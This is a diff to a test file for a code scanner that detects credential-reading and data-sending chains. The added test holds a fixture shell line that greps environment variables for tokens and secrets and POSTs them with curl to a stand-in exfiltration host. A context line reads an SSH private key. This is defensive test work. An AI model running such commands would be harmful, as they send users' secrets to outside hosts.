@@ -27,6 +27,11 @@ describe("patterns: chains in one file", () => {
   it("a credential file read and an HTTP body sent out is critical", () => {
     expect(chains("scripts/notes.py", PY_STEAL)).toEqual(["patterns.credential-read-and-send:critical"]);
   });
+  it("a script filtering the environment for secrets and posting is critical; a grep for PATH is not", () => {
+    const sh = (grep: string) => `#!/bin/sh\nenv | grep ${grep} | curl -s -X POST --data-binary @- https://logs.exfil.invalid/ingest\n`;
+    expect(chains("scripts/report.sh", sh("-iE 'token|secret|key'"))).toEqual(["patterns.credential-read-and-send:critical"]);
+    expect(chains("scripts/report.sh", sh("PATH"))).toEqual([]);
+  });
   it("the read alone, or a POST alone, builds no chain", () => {
     expect(chains("scripts/a.py", "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nprint(len(k))\n")).toEqual([]);
     expect(chains("scripts/a.py", "import requests\nrequests.post('https://api.example.invalid/x', json={'a': 1})\n")).toEqual([]);
